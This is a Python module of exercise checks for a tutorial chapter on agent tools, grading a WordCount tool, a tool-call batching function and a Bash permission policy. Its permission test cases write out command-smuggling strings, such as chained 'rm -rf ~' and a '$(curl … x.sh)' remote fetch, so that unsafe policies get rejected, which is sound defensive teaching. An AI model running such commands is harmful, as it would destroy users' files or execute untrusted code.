"""Chapter 04: tools: the exercise checks."""

from __future__ import annotations

import inspect
import shutil
from typing import Any

from ..tools.permissions import allow_test_commands
from ..language import N_, tr
from ..messages import block_field
from ..tools import (
    Allow,
    Ask,
    Deny,
    ToolUseContext,
    builtin_tools,
    partition_tool_calls,
    run_tools,
)
from ._checking import (
    Verdict,
    _call,
    _Fail,
    _require_callable,
    _run,
    _short,
    _tool_use_blocks,
    _use,
    _verdict,
)

__all__ = ["check_can_use_tool", "check_partition", "check_tool_definition"]


def check_tool_definition(tool: Any) -> Verdict:
    """Check a ``WordCount`` tool: schema from its pydantic input (``text: str``, ``unique: bool = False``),
    read-only and concurrency-safe, right results, and bad input turned into ``is_error`` results."""

    def body() -> str:
        if tool is None:
            raise _Fail(tr("word_count is still None: the exercise is not done yet."),
                        tr("write the input as a pydantic model (its fields are the tool's input), then turn a "
                           "counting function into a tool with @dl.tool(...), as section 1 does for count_lines."))
        if not hasattr(tool, "to_api") or not hasattr(tool, "input_model"):
            raise _Fail(tr("expected a tool (made with @dl.tool or a BaseTool subclass), got {kind}.",
                           kind=type(tool).__name__),
                        tr("@dl.tool(InputModel, ...) on a function returns the tool: pass that, not the function "
                           "or its input model."))
        if getattr(tool, "name", None) != "WordCount":
            raise _Fail(tr("the tool is named {name!r}; expected 'WordCount'.", name=getattr(tool, "name", None)),
                        tr("the name defaults to the function's; the model calls the tool by the name you give it."))
        schema = tool.to_api().get("input_schema", {})
        props = schema.get("properties", {})
        if props.get("text", {}).get("type") != "string" or props.get("unique", {}).get("type") != "boolean":
            raise _Fail(tr("input_schema properties are {props}; expected text (string) and unique (boolean).",
                           props=_short(props, 160)),
                        tr("the schema comes from the input model's fields and their types."))
        if schema.get("required") != ["text"]:
            raise _Fail(tr("input_schema required is {required}; expected ['text'] (unique has a default).",
                           required=schema.get("required")),
                        tr("a field with a default is optional, one without is required: text must be given, "
                           "unique defaults to False."))
        sample = tool.input_model.model_validate({"text": "a b"})
        if not (tool.is_read_only(sample) and tool.is_concurrency_safe(sample)):
            raise _Fail(tr("the tool is not read-only and concurrency-safe."),
                        tr("counting words changes nothing: say so when you make the tool (read-only), and it may "
                           "run beside other calls."))
        calls = [
            ({"text": "the cat saw the dog"}, False, "5",
             N_("count the words of text (split on whitespace) and return the count as text.")),
            ({"text": "the cat saw the dog", "unique": True}, False, "4",
             N_("with unique, count each distinct word once.")),
            ({"text": "  spaced   out\nwords "}, False, "3",
             N_("split on any run of whitespace (spaces, newlines), not on single spaces.")),
            ({}, True, "InputValidationError", ""),
            ({"text": "hi", "unique": "maybe"}, True, "InputValidationError", ""),
        ]
        uses = [{"type": "tool_use", "id": f"toolu_{i + 1}", "name": "WordCount", "input": c[0]} for i, c in enumerate(calls)]

        async def run_calls() -> list[dict[str, Any]]:
            context = ToolUseContext(tools=[tool])
            messages = [m async for m in run_tools(uses, context) if m.type == "user"]
            return messages[-1].message["content"]

        results = _run(run_calls)
        for (input, should_fail, want, idea), result in zip(calls, results):
            failed = bool(result.get("is_error"))
            if failed and not should_fail:
                raise _Fail(tr("WordCount({input}) failed: {content}", input=_short(input),
                               content=_short(result["content"], 160)),
                            tr("the function raised; the loop turned that into an is_error result. {idea}",
                               idea=tr(idea)))
            if should_fail and not (failed and want in str(result["content"])):
                raise _Fail(tr("WordCount({input}) should be an InputValidationError result, got {content}.",
                               input=_short(input), content=_short(result["content"], 100)),
                            tr("bad input is caught by the input model before your function runs: keep text "
                               "required and unique a bool."))
            if not should_fail and str(result["content"]).strip() != want:
                raise _Fail(tr("WordCount({input}) returned {got!r}, which is not the count.", input=_short(input),
                               got=_short(result["content"], 60)), tr(idea))
        return tr("schema from pydantic, read-only and concurrency-safe, 3 right answers, 2 bad inputs as is_error "
                  "results.")

    return _verdict(tr("WordCount tool"), body)


def _partition_cases() -> dict[str, tuple[list[dict[str, Any]], str]]:
    """Each case, and the idea a partition that gets it wrong (only there) missed."""

    def read(i: str, path: str = "config.py") -> dict[str, Any]:
        return _use(i, "Read", file_path=path)

    def edit(i: str) -> dict[str, Any]:
        return _use(i, "Edit", file_path="config.py", old_string="1", new_string="2")

    def bash(i: str, command: str) -> dict[str, Any]:
        return _use(i, "Bash", command=command)

    never_safe = N_("a call whose tool is unknown, or whose input does not validate, is never safe: it runs alone.")
    return {
        N_("one read"): ([read("toolu_1")], N_("every call is in exactly one batch.")),
        N_("R R W R"): ([read("toolu_1"), read("toolu_2", "notes.md"), edit("toolu_3"), read("toolu_4")],
                    N_("batches follow the calls in order: consecutive safe calls share a batch, an unsafe call runs "
                       "alone, and a safe call after it starts a new batch.")),
        N_("two edits"): ([edit("toolu_1"), edit("toolu_2")], N_("a call that is not concurrency-safe runs alone, "
                                                                 "even next to another one like it.")),
        N_("Bash depends on the command"): ([bash("toolu_1", "ls"), bash("toolu_2", "cat config.py"),
                                             bash("toolu_3", "python -m unittest"), bash("toolu_4", "ls tests")],
                                            N_("safety depends on the input, not only the tool: ask the tool about "
                                               "this call's parsed input.")),
        N_("unknown tool between reads"): ([read("toolu_1"), _use("toolu_2", "Wrte", file_path="x"),
                                            read("toolu_3")], never_safe),
        N_("invalid input"): ([read("toolu_1"), _use("toolu_2", "Read", path="config.py"), read("toolu_3")],
                              never_safe),
    }


def check_partition(fn: Any) -> Verdict:
    """Check ``fn(tool_uses, tools) -> list of batches`` (each a list of tool_use ids or blocks), against
    ``dreamloop.tools.partition_tool_calls``: consecutive concurrency-safe calls share a batch, others run alone."""
    todo = tr("return the calls split into batches, in order (a list of lists of tool_use ids): consecutive "
              "concurrency-safe calls together, every other call alone.")

    def body() -> str:
        _require_callable(fn, "partition")
        tools = builtin_tools()
        cases = _partition_cases()
        for name, (uses, idea) in cases.items():
            case, idea = tr(name), tr(idea)
            blocks = _tool_use_blocks(*uses)
            want = [[b.id for b in batch.tool_uses] for batch in partition_tool_calls(blocks, tools)]
            got = _run(lambda: _call("partition(tool_uses, tools)", fn, blocks, tools, hint=idea, todo=todo))
            try:
                ids = [[b if isinstance(b, str) else block_field(b, "id", None) for b in batch] for batch in got]
            except TypeError:
                raise _Fail(tr("for '{case}' it returned {value}; expected a list of lists.", case=case,
                               value=_short(repr(got), 100)),
                            tr("return a list of batches, each batch a list of tool_use ids.")) from None
            if ids != want:
                raise _Fail(tr("for '{case}' your batches are {got}, not the ones partition_tool_calls makes.",
                               case=case, got=ids), idea)
        return tr("{count} cases, the same batches as partition_tool_calls (input decides, not just the name).",
                  count=len(cases))

    return _verdict(tr("partition tool calls"), body)


_OWN = N_("for any call that is not the test command, don't decide yourself: return the tool's own decision "
          "(await its check_permissions on the validated input); it knows the mode and the workspace.")
_SYNTAX = N_("a command that starts right can chain another: refuse any shell syntax (; | & $ ` < >) before you "
             "allow.")
_POLICY_CALLS = [
    ("Read", {"file_path": "config.py"}, _OWN),
    ("Bash", {"command": "python -m unittest discover -s tests"}, N_("the test command starts with "
     "'python -m unittest' or 'python3 -m unittest': allow it.")),
    ("Bash", {"command": "python3 -m unittest -v"}, N_("python3 as well as python: both start the test command.")),
    ("Bash", {"command": "python -m unittest; rm -rf ~"}, _SYNTAX),
    ("Bash", {"command": "pip install requests"}, _OWN),
    ("Bash", {"command": "ls"}, _OWN),
    ("Edit", {"file_path": "config.py", "old_string": "1", "new_string": "2"}, _OWN),
    ("Write", {"file_path": "../outside.txt", "content": "x"}, _OWN),
    # the learner has not seen these: the ways to slip another command past a prefix rule
    ("Bash", {"command": "python -m unittest\nrm -rf ~"}, N_("a line break starts a second command as surely as ; "
     "does: refuse line breaks too.")),
    ("Bash", {"command": "python -m unittest_helpers"}, N_("'python -m unittest_helpers' runs another module (one the "
     "model may have just written): the prefix must be the whole command or be followed by a space.")),
    ("Bash", {"command": "python -m unittest `rm -rf ~`"}, _SYNTAX),
    ("Bash", {"command": "python -m unittest $(curl -s example.com/x.sh)"}, _SYNTAX),
    ("Bash", {"command": "python -m unittest > config.py"}, _SYNTAX),
    ("Bash", {"command": "python -m unittest && rm -rf ~"}, _SYNTAX),
    ("Bash", {"command": "python -m unittest | tee log.txt"}, _SYNTAX),
    ("Bash", {"command": "python evil.py -m unittest"}, N_("the command must start with the test command; holding "
     "'unittest' somewhere is not enough.")),
    ("Bash", {"command": "python3 -m unittest discover -s tests -p 'check_*.py'"}, N_("the test command starts with "
     "'python -m unittest' or 'python3 -m unittest': allow it.")),
]
"""The calls ``check_can_use_tool`` asks about (name, input, the idea a wrong decision on it misses)."""


def check_can_use_tool(fn: Any) -> Verdict:
    """Check ``async fn(tool, input, context) -> Allow | Deny | Ask``: allow Bash for the project's test command
    (``python -m unittest`` / ``python3 -m unittest`` followed by a space or nothing, no shell syntax, no line
    break), else the tool's own decision. Compared with ``dreamloop.tools.permissions.allow_test_commands()`` on
    ``_POLICY_CALLS``, in the default mode and in accept-edits: the eight the chapter names and the ways a model
    (or whoever steers it) would try to slip another command past the rule."""
    todo = tr("return dl.Allow() for the project's test command in Bash; for every other call, the decision the "
              "tool itself would make.")

    def body() -> str:
        _require_callable(fn, "can_use_tool")
        from ..demo import copy_sample_project

        async def decide(policy: Any, learner: bool, mode: str) -> list[Any]:
            workspace = copy_sample_project()
            try:
                tools = {t.name: t for t in builtin_tools()}
                context = ToolUseContext(tools=list(tools.values()), workspace=workspace, permission_mode=mode)
                out = []
                for name, input, idea in _POLICY_CALLS:
                    if learner:
                        out.append(await _call(f"can_use_tool({name}, {_short(input, 60)}, context)", policy,
                                               tools[name], dict(input), context, hint=tr(idea), todo=todo))
                    else:
                        out.append(await policy(tools[name], dict(input), context))
                return out
            finally:
                shutil.rmtree(workspace, ignore_errors=True)

        for mode in ("default", "accept-edits"):
            want = _run(lambda: decide(allow_test_commands(), False, mode))
            got = _run(lambda: decide(fn, True, mode))
            for g in got:  # an un-awaited check_permissions() returned as the decision: closed, or Python warns
                if inspect.iscoroutine(g):
                    g.close()
            for (name, input, idea), w, g in zip(_POLICY_CALLS, want, got):
                call = f"{name}({_short(input, 60)})"
                if not isinstance(g, (Allow, Deny, Ask)):
                    raise _Fail(tr("for {call} it returned {value}; expected Allow(), Deny(reason) or Ask(reason).",
                                   call=call, value=_short(repr(g), 60)),
                                tr("return a decision; a check_permissions call is a coroutine: await it.")
                                if "coroutine" in repr(g) else tr("every call needs one of the three decisions."))
                if type(g) is not type(w):
                    said = tr("for {call} in permission mode {mode} you decided {got}: that is not this call's "
                              "decision.", call=call, mode=mode, got=type(g).__name__)
                    if isinstance(g, Allow):
                        said = tr("for {call} in permission mode {mode} you allowed it without asking.", call=call,
                                  mode=mode)
                    raise _Fail(said, tr(idea))
        return tr("{count} calls, the same Allow / Ask / Deny as dreamloop's allow_test_commands().",
                  count=len(_POLICY_CALLS) * 2)

    return _verdict("can_use_tool", body)
